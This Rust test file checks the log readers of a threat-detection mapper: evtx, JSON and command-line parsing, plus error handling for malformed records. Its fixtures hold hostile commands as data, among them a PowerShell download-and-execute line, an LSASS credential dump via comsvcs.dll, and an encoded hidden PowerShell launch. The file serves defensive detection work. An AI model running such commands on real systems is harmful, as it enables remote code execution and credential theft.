//! Readers: JSON lines, JSON arrays and documents, evtx JSON, `.evtx`
//! files, command lines and reports, with malformed records located and
//! skipped.

use std::collections::BTreeMap;
use std::io::Write;
use std::path::{Path, PathBuf};

use serde_json::{json, Value};
use ttpmap_mapper::read::{
    self, EventFormat, EventReader, InputKind, Observation, ReadError, RecordError,
    RecordErrorKind, Unit,
};
use ttpmap_mapper::Event;
use ttpmap_test_support::{shared_dir, testdata};

fn fixture(name: &str) -> PathBuf {
    testdata(&format!("events/{name}"))
}

/// Every item of an event file: events and errors, in order.
fn read_all(path: &Path) -> (Vec<Event>, Vec<RecordError>, read::ReadSummary) {
    let mut reader = EventReader::open(path).unwrap();
    let mut events = Vec::new();
    let mut errors = Vec::new();
    for item in reader.by_ref() {
        match item {
            Ok(event) => events.push(event),
            Err(error) => errors.push(error),
        }
    }
    (events, errors, reader.into_summary())
}

fn records(events: &[Event]) -> Vec<u64> {
    events
        .iter()
        .map(|e| e.origin.as_ref().map_or(0, |o| o.record))
        .collect()
}

fn fields(event: &Event) -> Vec<(String, Value)> {
    event
        .fields()
        .map(|(k, v)| (k.to_owned(), v.clone()))
        .collect()
}

/// A scratch file under the target folder, removed when dropped.
struct Scratch(PathBuf);

impl Scratch {
    fn new(name: &str, bytes: &[u8]) -> Scratch {
        let dir = std::env::temp_dir().join(format!("ttpmap-read-{}", std::process::id()));
        std::fs::create_dir_all(&dir).unwrap();
        let path = dir.join(name);
        std::fs::File::create(&path)
            .unwrap()
            .write_all(bytes)
            .unwrap();
        Scratch(path)
    }
}

impl Drop for Scratch {
    fn drop(&mut self) {
        let _ = std::fs::remove_file(&self.0);
    }
}

#[test]
fn json_lines_report_the_bad_line_and_read_the_others() {
    let path = fixture("bad-line.jsonl");
    assert_eq!(read::detect(&path).unwrap(), EventFormat::JsonLines);
    let (events, errors, summary) = read_all(&path);
    assert_eq!(records(&events), [1, 2, 4, 6]);
    assert_eq!(events[2].get("DestinationPort"), Some(&json!(4444)));
    assert_eq!(errors.len(), 1);
    let error = &errors[0];
    assert_eq!(error.kind, RecordErrorKind::Syntax);
    assert_eq!(error.position.unit, Unit::Line);
    assert_eq!(error.position.index, 3);
    let text = error.to_string();
    assert!(text.contains("bad-line.jsonl: line 3: "), "{text}");
    assert!(!error.is_final());
    assert_eq!(
        (summary.records, summary.events, summary.skipped),
        (5, 4, 1)
    );
    assert_eq!(summary.errors, errors);
    assert_eq!(summary.to_string(), "5 records: 4 read, 1 skipped");
    let origin = events[0].origin.as_ref().unwrap();
    assert_eq!(origin.file.as_deref(), Some(&path));
}

#[test]
fn array_with_a_malformed_element_reads_the_rest() {
    let path = fixture("array-bad-element.json");
    assert_eq!(read::detect(&path).unwrap(), EventFormat::JsonArray);
    let (events, errors, summary) = read_all(&path);
    assert_eq!(records(&events), [1, 3, 4]);
    assert_eq!(events[2].get("LogonType"), Some(&json!(10)));
    assert_eq!(errors.len(), 1);
    assert_eq!(errors[0].kind, RecordErrorKind::Syntax);
    assert_eq!(errors[0].position.unit, Unit::Element);
    assert_eq!(errors[0].position.index, 2);
    assert_eq!(errors[0].position.line, Some(3));
    assert!(
        errors[0].to_string().contains("element 2 (line 3): "),
        "{}",
        errors[0]
    );
    assert_eq!((summary.events, summary.skipped), (3, 1));
}

/// A break in the structure (here an unterminated string) cannot be read
/// past: the elements before it are kept, one error names the element
/// where it starts, and reading stops.
#[test]
fn array_broken_in_its_structure_stops_at_the_break() {
    let path = fixture("array-broken.json");
    let (events, errors, _) = read_all(&path);
    assert_eq!(records(&events), [1]);
    assert_eq!(events[0].text("CommandLine").as_deref(), Some("ok"));
    assert_eq!(errors.len(), 1);
    assert_eq!(errors[0].kind, RecordErrorKind::Unrecoverable);
    assert!(errors[0].is_final());
    assert_eq!(errors[0].position.index, 2);
    assert_eq!(errors[0].position.line, Some(3));
    assert!(
        errors[0]
            .message
            .contains("the rest of the array cannot be read"),
        "{}",
        errors[0]
    );
}

#[test]
fn a_single_nested_object_is_one_flattened_event() {
    let path = fixture("ecs-single.json");
    assert_eq!(read::detect(&path).unwrap(), EventFormat::JsonDocuments);
    let (events, errors, _) = read_all(&path);
    assert!(errors.is_empty(), "{errors:?}");
    assert_eq!(events.len(), 1);
    let event = &events[0];
    assert_eq!(records(&events), [1]);
    assert_eq!(
        fields(event),
        [
            ("@timestamp".to_owned(), json!("2024-05-01T10:00:00.000Z")),
            ("event.code".to_owned(), json!("1")),
            (
                "event.provider".to_owned(),
                json!("Microsoft-Windows-Sysmon")
            ),
            ("event.kind".to_owned(), json!("event")),
            ("host.name".to_owned(), json!("ws1.corp.local")),
            ("host.os.family".to_owned(), json!("windows")),
            (
                "process.executable".to_owned(),
                json!("C:\\Windows\\System32\\cmd.exe")
            ),
            (
                "process.command_line".to_owned(),
                json!("cmd.exe /c whoami")
            ),
            ("process.pid".to_owned(), json!(4242)),
            (
                "process.args".to_owned(),
                json!(["cmd.exe", "/c", "whoami"])
            ),
            (
                "process.parent.executable".to_owned(),
                json!("C:\\Windows\\explorer.exe")
            ),
            (
                "winlog.channel".to_owned(),
                json!("Microsoft-Windows-Sysmon/Operational")
            ),
            ("winlog.event_id".to_owned(), json!(1)),
            ("winlog.event_data.IntegrityLevel".to_owned(), json!("High")),
        ]
    );
    // A single object on one line is read the same way as JSON lines.
    let one = Scratch::new("one-line.json", br#"{"a": {"b": 1}}"#);
    assert_eq!(read::detect(&one.0).unwrap(), EventFormat::JsonLines);
    let (events, _, _) = read_all(&one.0);
    assert_eq!(events[0].get("a.b"), Some(&json!(1)));
}

#[test]
fn evtx_dump_json_is_normalised() {
    let path = fixture("evtx-dump.json");
    // `evtx_dump -o json` writes a `Record N` banner before each document.
    assert_eq!(read::detect(&path).unwrap(), EventFormat::JsonDocuments);
    let (events, errors, _) = read_all(&path);
    assert!(errors.is_empty(), "{errors:?}");
    assert_eq!(records(&events), [1, 2]);
    assert_eq!(
        fields(&events[0]),
        [
            ("EventID".to_owned(), json!(1)),
            (
                "Channel".to_owned(),
                json!("Microsoft-Windows-Sysmon/Operational")
            ),
            (
                "Provider_Name".to_owned(),
                json!("Microsoft-Windows-Sysmon")
            ),
            ("Computer".to_owned(), json!("ws1.corp.local")),
            ("Level".to_owned(), json!(4)),
            ("Task".to_owned(), json!(1)),
            ("Keywords".to_owned(), json!("0x8000000000000000")),
            (
                "TimeCreated".to_owned(),
                json!("2024-05-01T10:00:00.123456Z")
            ),
            ("EventRecordID".to_owned(), json!(1001)),
            ("Security_UserID".to_owned(), json!("S-1-5-18")),
            ("RuleName".to_owned(), json!("-")),
            ("UtcTime".to_owned(), json!("2024-05-01 10:00:00.120")),
            ("ProcessId".to_owned(), json!(4460)),
            ("Image".to_owned(), json!("C:\\Windows\\System32\\cmd.exe")),
            ("CommandLine".to_owned(), json!("cmd.exe /c whoami")),
            ("User".to_owned(), json!("CORP\\alice")),
            ("ParentImage".to_owned(), json!("C:\\Windows\\explorer.exe")),
            ("Hashes".to_owned(), Value::Null),
            ("Version".to_owned(), json!(5)),
            ("Opcode".to_owned(), json!(0)),
            (
                "Provider_Guid".to_owned(),
                json!("{5770385f-c22a-43e0-bf4c-06f5698ffbd9}")
            ),
            ("Execution_ProcessID".to_owned(), json!(3544)),
            ("Execution_ThreadID".to_owned(), json!(4272)),
        ]
    );
    let service = &events[1];
    // `EventID` with a `Qualifiers` attribute gives its text.
    assert_eq!(service.get("EventID"), Some(&json!(7045)));
    assert_eq!(service.text("Channel").as_deref(), Some("System"));
    assert_eq!(
        service.text("Provider_Name").as_deref(),
        Some("Service Control Manager")
    );
    assert_eq!(
        service.text("Security_UserID").as_deref(),
        Some("S-1-5-21-1-2-3-1001")
    );
    assert_eq!(
        service.text("ImagePath").as_deref(),
        Some("%SystemRoot%\\PSEXESVC.exe")
    );
    assert_eq!(
        service.text("Provider_EventSourceName").as_deref(),
        Some("Service Control Manager")
    );
}

#[test]
fn python_evtx_data_items_and_user_data_are_flattened() {
    let (events, errors, _) = read_all(&fixture("python-evtx.json"));
    assert!(errors.is_empty(), "{errors:?}");
    assert_eq!(
        fields(&events[0]),
        [
            ("EventID".to_owned(), json!(4688)),
            ("Channel".to_owned(), json!("Security")),
            (
                "Provider_Name".to_owned(),
                json!("Microsoft-Windows-Security-Auditing")
            ),
            ("Computer".to_owned(), json!("dc1.corp.local")),
            ("Level".to_owned(), json!(0)),
            ("Task".to_owned(), json!(13312)),
            ("Keywords".to_owned(), json!("0x8020000000000000")),
            (
                "TimeCreated".to_owned(),
                json!("2024-05-01 10:00:00.123456")
            ),
            ("EventRecordID".to_owned(), json!(3003)),
            ("SubjectUserSid".to_owned(), json!("S-1-5-18")),
            ("NewProcessId".to_owned(), json!("0x1a2b")),
            (
                "NewProcessName".to_owned(),
                json!("C:\\Windows\\System32\\whoami.exe")
            ),
            ("TokenElevationType".to_owned(), json!("%%1936")),
            ("CommandLine".to_owned(), json!("whoami /all")),
            ("TargetUserName".to_owned(), Value::Null),
            ("Version".to_owned(), json!(2)),
            ("Opcode".to_owned(), json!(0)),
            (
                "Provider_Guid".to_owned(),
                json!("{54849625-5478-4994-a5ba-3e3b0328c30d}")
            ),
            ("Execution_ProcessID".to_owned(), json!(4)),
            ("Execution_ThreadID".to_owned(), json!(88)),
        ]
    );
    let cleared = &events[1];
    assert_eq!(cleared.get("EventID"), Some(&json!(1102)));
    assert_eq!(
        cleared.text("Security_UserID").as_deref(),
        Some("S-1-5-21-1-2-3-500")
    );
    assert_eq!(
        cleared.text("SubjectUserName").as_deref(),
        Some("Administrator")
    );
    assert_eq!(cleared.text("SubjectLogonId").as_deref(), Some("0x3e7"));
    assert!(cleared.get("@xmlns").is_none() && cleared.get("xmlns").is_none());
}

#[test]
fn name_and_text_items_arrays_and_unnamed_data() {
    let (events, errors, _) = read_all(&fixture("evtx-name-text.jsonl"));
    assert!(errors.is_empty(), "{errors:?}");
    let script = &events[0];
    assert_eq!(script.get("EventID"), Some(&json!(4104)));
    assert_eq!(script.get("MessageNumber"), Some(&json!(1)));
    assert_eq!(
        script.text("ScriptBlockText").as_deref(),
        Some("IEX (New-Object Net.WebClient).DownloadString('http://x/a')")
    );
    // `EventData` as an array of `Name` / `#attributes.Name` items.
    let crash = &events[1];
    assert_eq!(crash.text("AppName").as_deref(), Some("evil.exe"));
    assert_eq!(crash.text("ExceptionCode").as_deref(), Some("c0000005"));
    assert_eq!(
        crash.text("RenderingInfo.Message").as_deref(),
        Some("Faulting application name: evil.exe")
    );
    // Unnamed `Data` items.
    let msi = &events[2];
    assert_eq!(
        msi.get("Data"),
        Some(&json!([
            "Product: Evil -- Installation completed successfully.",
            "(NULL)"
        ]))
    );
    assert_eq!(msi.text("Binary").as_deref(), Some("7B30"));
}

#[test]
fn command_lines_with_quotes_become_process_creation_events() {
    let path = fixture("command-lines.txt");
    let mut reader = read::open(&path, InputKind::CommandLines).unwrap();
    let lines: Vec<_> = reader
        .by_ref()
        .map(|item| match item.unwrap() {
            Observation::CommandLine(line) => line,
            other => panic!("{other:?}"),
        })
        .collect();
    let got: Vec<(u64, String, Option<String>)> = lines
        .iter()
        .map(|line| {
            let event = line.to_event();
            (
                line.origin.as_ref().unwrap().record,
                event.text("CommandLine").unwrap().into_owned(),
                event.text("Image").map(std::borrow::Cow::into_owned),
            )
        })
        .collect();
    let expected: Vec<(u64, &str, &str)> = vec![
        (
            2,
            r#""C:\Program Files\7-Zip\7z.exe" a -pSecret out.7z C:\Users\bob\Documents"#,
            r"C:\Program Files\7-Zip\7z.exe",
        ),
        (
            4,
            "powershell.exe -nop -w hidden -enc SQBFAFgA",
            "powershell.exe",
        ),
        (
            5,
            r#"C:\Windows\System32\cmd.exe /c "whoami /all""#,
            r"C:\Windows\System32\cmd.exe",
        ),
        (
            6,
            r"rundll32.exe C:\Users\Public\a.dll,Start",
            "rundll32.exe",
        ),
        (
            8,
            r"C:\Program Files\App\app.exe -v",
            r"C:\Program Files\App\app.exe",
        ),
    ];
    let expected: Vec<(u64, String, Option<String>)> = expected
        .into_iter()
        .map(|(n, c, i)| (n, c.to_owned(), Some(i.to_owned())))
        .collect();
    assert_eq!(got, expected);
    let event = lines[0].to_event();
    assert_eq!(
        event.origin.as_ref().map(|o| o.record),
        Some(2),
        "the event keeps the line's origin"
    );
    assert_eq!(reader.summary().events, 5);
}

#[test]
fn html_report_becomes_text() {
    let mut reader = read::open(fixture("report.html"), InputKind::Text).unwrap();
    let Some(Ok(Observation::Text { text, source })) = reader.next() else {
        panic!("no text")
    };
    assert!(reader.next().is_none());
    assert_eq!(source.record, 1);
    assert_eq!(
        text,
        "APT-X & friends\n\n\
         Intrusion report\n\n\
         The actor ran powershell.exe -enc <payload> and used T1059.001 \u{2014} \"PowerShell\".\n\n\
         It's persistent: scheduled task \u{201C}Updater\u{201D} (5 > 3).\n\n\
         Mimikatz\n\
         Cobalt Strike\n\n\
         T1003 OS Credential Dumping"
    );
}

#[test]
fn markdown_report_keeps_its_text_without_fence_markers() {
    let mut reader = read::open(fixture("report.md"), InputKind::Text).unwrap();
    let Some(Ok(Observation::Text { text, .. })) = reader.next() else {
        panic!("no text")
    };
    assert_eq!(
        text,
        "# Campaign notes\n\n\
         The actor used **T1003.001** (LSASS Memory):\n\n\
         rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full\n\n\
         whoami /priv\n"
    );
}

#[test]
fn unreadable_files_are_hard_errors_naming_the_path() {
    let missing = fixture("no-such-file.jsonl");
    for kind in [InputKind::Events, InputKind::CommandLines, InputKind::Text] {
        let Err(error) = read::open(&missing, kind) else {
            panic!("opened a missing file")
        };
        assert!(matches!(error, ReadError::Io { .. }), "{error}");
        assert_eq!(error.path(), missing);
        assert!(error.to_string().contains("no-such-file.jsonl"), "{error}");
    }
    let folder = testdata("events");
    assert!(read::open(&folder, InputKind::CommandLines).is_err());
    let garbage = Scratch::new("garbage.dat", b"<Events><Event/></Events>");
    assert!(matches!(
        read::open(&garbage.0, InputKind::Events),
        Err(ReadError::UnknownFormat { .. })
    ));
    let fake = Scratch::new("fake.evtx", b"not an event log at all");
    assert!(matches!(
        read::open(&fake.0, InputKind::Events),
        Err(ReadError::Evtx { .. })
    ));
}

#[test]
fn bad_utf8_and_oversized_lines_are_record_errors() {
    let mut data = b"{\"a\": 1}\n{\"a\": \"caf\xE9\"}\n{\"big\": \"".to_vec();
    data.resize(data.len() + read::MAX_RECORD_BYTES + 10, b'x');
    data.extend_from_slice(b"\"}\n{\"a\": 4}\n");
    let file = Scratch::new("mixed.jsonl", &data);
    let (events, errors, summary) = read_all(&file.0);
    assert_eq!(records(&events), [1, 4]);
    let kinds: Vec<_> = errors.iter().map(|e| (e.position.index, e.kind)).collect();
    assert_eq!(
        kinds,
        [
            (2, RecordErrorKind::InvalidUtf8),
            (3, RecordErrorKind::TooLarge)
        ]
    );
    assert_eq!(summary.skipped, 2);

    let lines = Scratch::new("lines.txt", b"whoami\n\xFF\xFEnot utf8\nid\n");
    let reader = read::open(&lines.0, InputKind::CommandLines).unwrap();
    let items: Vec<_> = reader.collect();
    assert_eq!(items.len(), 3);
    assert!(matches!(&items[1], Err(e) if e.kind == RecordErrorKind::InvalidUtf8));
}

#[test]
fn deep_nesting_is_a_record_error() {
    let deep = format!(
        "{{\"a\": 1}}\n{}{}\n{{\"a\": 3}}\n",
        "{\"x\":".repeat(200),
        "}".repeat(200)
    );
    let file = Scratch::new("deep.jsonl", deep.as_bytes());
    let (events, errors, _) = read_all(&file.0);
    assert_eq!(records(&events), [1, 3]);
    assert_eq!(errors.len(), 1);
    assert!(
        errors[0].message.contains("recursion limit"),
        "{}",
        errors[0]
    );
}

#[test]
fn utf16_files_are_read() {
    let text = "{\"Image\": \"C:\\\\caf\u{e9}.exe\"}\n";
    let mut bytes = vec![0xFF, 0xFE];
    bytes.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
    let file = Scratch::new("utf16.json", &bytes);
    let (events, errors, _) = read_all(&file.0);
    assert!(errors.is_empty(), "{errors:?}");
    assert_eq!(
        events[0].text("Image").as_deref(),
        Some("C:\\caf\u{e9}.exe")
    );
}

#[test]
fn readers_can_move_between_threads() {
    fn send<T: Send>() {}
    send::<read::Reader>();
    send::<EventReader>();
}

/// A damaged event log: records that cannot be parsed and a file cut short
/// are record errors, the rest is read, nothing panics.
#[test]
fn damaged_evtx_files_report_errors_and_go_on() {
    let Some(sample) = ttpmap_test_support::shared_file(
        "sigma/regression_data/rules/windows/process_creation/proc_creation_win_certutil_decode/\
         cc9cbe82-7bc0-4ef5-bc23-bbfb83947be7.evtx",
    ) else {
        return;
    };
    let bytes = std::fs::read(&sample).unwrap();
    let (events, errors, _) = read_all(&sample);
    assert_eq!((events.len(), errors.len()), (1, 0));
    assert_eq!(records(&events), [1]);

    // Cut inside the chunk: its records are lost, and that is said.
    let cut = Scratch::new("cut.evtx", &bytes[..4096 + 30_000]);
    let (events, errors, _) = read_all(&cut.0);
    assert!(events.is_empty());
    assert_eq!(errors.len(), 1, "{errors:?}");
    assert_eq!(errors[0].kind, RecordErrorKind::Evtx);
    assert!(
        errors[0].message.contains("ends inside a chunk"),
        "{}",
        errors[0]
    );

    // Garbage over the records: every outcome is an event or a record error.
    for offset in [4096 + 512, 4096 + 600, 4096 + 1024, 4096 + 4000] {
        let mut damaged = bytes.clone();
        for (i, b) in damaged.iter_mut().skip(offset).take(64).enumerate() {
            *b = (i as u8).wrapping_mul(37) ^ 0xA5;
        }
        let file = Scratch::new(&format!("damaged-{offset}.evtx"), &damaged);
        let mut reader = EventReader::open(&file.0).unwrap();
        let mut items = 0;
        for item in reader.by_ref() {
            items += 1;
            if let Err(e) = item {
                assert!(e.to_string().contains("damaged-"), "{e}");
            }
        }
        let summary = reader.summary();
        assert_eq!(summary.records, items);
        assert_eq!(summary.records, summary.events + summary.skipped);
        // A damaged record header or string table is reported, not skipped silently.
        if offset < 4096 + 4000 {
            assert!(summary.skipped >= 1, "{offset}: {summary}");
        }
    }
}

/// A value's text for comparison: numbers and strings alike, trailing
/// whitespace ignored (the `evtx` crate keeps the trailing space Windows
/// logs in `"C:\Windows\system32\cmd.exe" `, older `evtx_dump` versions,
/// which wrote the `.json` files, trimmed it; readers keep values as the
/// source has them).
fn as_text(value: &Value) -> String {
    match value {
        Value::String(s) => s.trim_end().to_owned(),
        other => other.to_string(),
    }
}

/// A `SystemTime` to the microsecond: the `evtx` crate writes Windows's
/// seven digits (100 ns), older `evtx_dump` versions six.
fn to_microseconds(time: &str) -> String {
    match time.split_once('.') {
        Some((seconds, fraction)) => {
            let digits: String = fraction
                .chars()
                .take_while(char::is_ascii_digit)
                .take(6)
                .collect();
            format!("{seconds}.{digits:0<6}Z")
        }
        None => time.to_owned(),
    }
}

/// An event's fields as comparable text (see [`as_text`], [`to_microseconds`]).
fn comparable(event: &Event) -> BTreeMap<String, String> {
    event
        .fields()
        .map(|(k, v)| {
            let value = as_text(v);
            let value = if k == "TimeCreated" {
                to_microseconds(&value)
            } else {
                value
            };
            (k.to_owned(), value)
        })
        .collect()
}

/// Every `.evtx` of Sigma's regression data, read directly, gives the same
/// events as the `.json` beside it (written by `evtx_dump`).
#[test]
fn sigma_regression_evtx_and_json_agree() {
    let Some(shared) = shared_dir() else {
        return;
    };
    let root = shared.join("sigma/regression_data");
    if !root.is_dir() {
        assert!(
            !ttpmap_test_support::data_required(),
            "{} is missing",
            root.display()
        );
        eprintln!("notice: {} is absent; test skipped", root.display());
        return;
    }
    let mut pairs: BTreeMap<PathBuf, (bool, bool)> = BTreeMap::new();
    let mut stack = vec![root.clone()];
    while let Some(dir) = stack.pop() {
        for entry in std::fs::read_dir(&dir).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                stack.push(path);
                continue;
            }
            let extension = path.extension().and_then(|e| e.to_str());
            let stem = path.with_extension("");
            match extension {
                Some("evtx") => pairs.entry(stem).or_default().0 = true,
                Some("json") => pairs.entry(stem).or_default().1 = true,
                _ => {}
            }
        }
    }
    // The `.json` beside this `.evtx` was edited: `Explorer.EXE` became `Explorer.exe`.
    let known = [(
        "proc_creation_win_susp_right_to_left_override",
        r#"ParentCommandLine: Some("C:\\Windows\\Explorer.EXE") vs Some("C:\\Windows\\Explorer.exe")"#,
    )];
    let mut read_pairs = 0;
    let mut problems = Vec::new();
    let mut evtx_records = 0u64;
    let mut json_documents = 0u64;
    for (stem, &(has_evtx, has_json)) in &pairs {
        let name = stem
            .strip_prefix(&root)
            .unwrap_or(stem)
            .display()
            .to_string();
        if !(has_evtx && has_json) {
            problems.push(format!("{name}: no pair"));
            continue;
        }
        let (evtx, evtx_errors, _) = read_all(&stem.with_extension("evtx"));
        let (json, json_errors, _) = read_all(&stem.with_extension("json"));
        evtx_records += evtx.len() as u64;
        json_documents += json.len() as u64;
        if !evtx_errors.is_empty() || !json_errors.is_empty() {
            problems.push(format!("{name}: errors {evtx_errors:?} {json_errors:?}"));
        }
        if evtx.is_empty() {
            problems.push(format!("{name}: no event"));
            continue;
        }
        if evtx.len() != json.len() {
            problems.push(format!(
                "{name}: {} records vs {} documents",
                evtx.len(),
                json.len()
            ));
        }
        // The first record as asked, and every other one in order.
        for (from_evtx, from_json) in evtx.iter().zip(&json) {
            for core in ["EventID", "Channel", "Provider_Name"] {
                if from_evtx.get(core).is_none() {
                    problems.push(format!("{name}: no {core}"));
                }
            }
            if from_evtx.get("EventID").and_then(Value::as_u64).is_none() {
                problems.push(format!("{name}: EventID is not a number"));
            }
            let (a, b) = (comparable(from_evtx), comparable(from_json));
            if a != b {
                let mut diff = Vec::new();
                for key in a.keys().chain(b.keys()) {
                    if a.get(key) != b.get(key) {
                        diff.push(format!("{key}: {:?} vs {:?}", a.get(key), b.get(key)));
                    }
                }
                diff.sort();
                diff.dedup();
                let diff = diff.join("; ");
                if !known
                    .iter()
                    .any(|(rule, known)| name.contains(rule) && diff == *known)
                {
                    problems.push(format!("{name}: {diff}"));
                }
            }
        }
        read_pairs += 1;
    }
    eprintln!(
        "sigma regression data: {read_pairs} pairs read, {evtx_records} evtx records, \
         {json_documents} json documents"
    );
    assert!(problems.is_empty(), "{}", problems.join("\n"));
    assert!(read_pairs >= 202, "{read_pairs} pairs");
}

/// Every item of a stream read by [`EventReader::from_stream`].
fn read_stream(bytes: Vec<u8>) -> (EventFormat, Vec<Event>, Vec<RecordError>) {
    let mut reader = EventReader::from_stream(std::io::Cursor::new(bytes), "<stdin>").unwrap();
    let format = reader.format();
    let (mut events, mut errors) = (Vec::new(), Vec::new());
    for item in reader.by_ref() {
        match item {
            Ok(event) => events.push(event),
            Err(error) => errors.push(error),
        }
    }
    (format, events, errors)
}

#[test]
fn streams_read_like_the_files_they_hold() {
    for name in [
        "bad-line.jsonl",
        "array-bad-element.json",
        "array-broken.json",
        "evtx-dump.json",
        "python-evtx.json",
        "evtx-name-text.jsonl",
        "ecs-single.json",
    ] {
        let path = fixture(name);
        let (file_events, file_errors, _) = read_all(&path);
        let (format, events, errors) = read_stream(std::fs::read(&path).unwrap());
        // `.jsonl` files are JSON lines by name; their content says so too.
        assert_eq!(format, read::detect(&path).unwrap(), "{name}");
        assert!(!events.is_empty(), "{name}");
        assert_eq!(
            events.iter().map(fields).collect::<Vec<_>>(),
            file_events.iter().map(fields).collect::<Vec<_>>(),
            "{name}"
        );
        assert_eq!(records(&events), records(&file_events), "{name}");
        // The same errors at the same places, named after the stream.
        let messages = |errors: &[RecordError], file: &str| -> Vec<String> {
            errors
                .iter()
                .map(|e| e.to_string().replace(file, "<stdin>"))
                .collect()
        };
        assert_eq!(
            messages(&errors, "<stdin>"),
            messages(&file_errors, &path.display().to_string()),
            "{name}"
        );
    }
}

#[test]
fn streams_of_other_shapes() {
    // Empty, blank: no events.
    for blank in ["", "\n\n  \n"] {
        let (format, events, errors) = read_stream(blank.into());
        assert_eq!(format, EventFormat::JsonLines);
        assert!(events.is_empty() && errors.is_empty(), "{blank:?}");
    }
    // UTF-16 with its mark, blank lines first: line numbers stay right.
    let text = "\n\n{\"Image\": \"C:\\\\é.exe\"}\n";
    let mut utf16 = vec![0xFF, 0xFE];
    utf16.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
    let (format, events, _) = read_stream(utf16);
    assert_eq!(format, EventFormat::JsonLines);
    assert_eq!(events[0].text("Image").as_deref(), Some("C:\\é.exe"));
    assert_eq!(records(&events), [3]);
    // A pretty-printed object is a document.
    let (format, events, _) = read_stream(b"{\n  \"A\": 1\n}\n".to_vec());
    assert_eq!(format, EventFormat::JsonDocuments);
    assert_eq!(events[0].get("A"), Some(&json!(1)));
    // An event log needs its path; anything else is an unknown format.
    let evtx = EventReader::from_stream(std::io::Cursor::new(b"ElfFile\0rest".to_vec()), "-");
    match evtx {
        Err(e @ ReadError::Evtx { .. }) => {
            assert!(e.to_string().contains("give its path"), "{e}");
        }
        other => panic!(
            "expected an evtx error, got {:?}",
            other.map(|r| r.format())
        ),
    }
    let unknown = EventReader::from_stream(std::io::Cursor::new(b"hello".to_vec()), "-");
    assert!(matches!(unknown, Err(ReadError::UnknownFormat { .. })));
}

#[test]
fn html_links_keep_their_absolute_targets() {
    let html = concat!(
        "<p>Payload from <a class=x href=\"hxxp://evil[.]example/a.exe\">this link</a>. ",
        "See <A HREF='https://x.test/?a=1&amp;b=2'>https://x.test/?a=1&amp;b=2</A>, ",
        "<a href=\"/docs\">docs</a>, <a href='#top'>top</a>, ",
        "<a data-href=\"http://no.test\">no</a> and <a href=mailto:ir@corp.test>mail</a>.</p>"
    );
    assert_eq!(
        read::html_to_text(html),
        "Payload from this link (hxxp://evil[.]example/a.exe). \
         See https://x.test/?a=1&b=2, docs, top, no and mail (mailto:ir@corp.test)."
    );
    // The indicator hidden in the target is found.
    let iocs = ttpmap_mapper::ioc::extract(&read::html_to_text(html));
    assert!(
        iocs.iter().any(|i| i.value == "http://evil.example/a.exe"),
        "{iocs:?}"
    );
}
